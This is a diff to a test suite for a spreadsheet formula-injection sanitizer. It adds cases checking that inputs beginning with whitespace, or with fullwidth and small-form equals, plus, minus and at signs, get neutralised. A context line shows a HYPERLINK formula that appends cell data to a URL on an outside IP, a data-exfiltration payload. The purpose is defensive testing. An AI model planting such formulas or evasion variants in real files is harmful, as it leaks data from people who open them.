@@ -305,6 +305,18 @@ describe('inert text', () => {
       '\'=HYPERLINK("http://203.0.113.66/"&A1)',
     );
     expect(inertCell('a=b')).toBe('a=b');
+    for (const text of [
+      ' =1+1',
+      '\u3000=1',
+      '\n@SUM(1)',
+      '\uff1d1+1',
+      ' \uff0b1',
+      '\uff0d1',
+      '\uff20x',
+      '\ufe66x',
+    ])
+      expect(inertCell(text)).toBe(`'${text}`);
+    for (const text of ['', ' ', ' a=b', '\uff1ax', '(-1)']) expect(inertCell(text)).toBe(text);
   });
 });
 
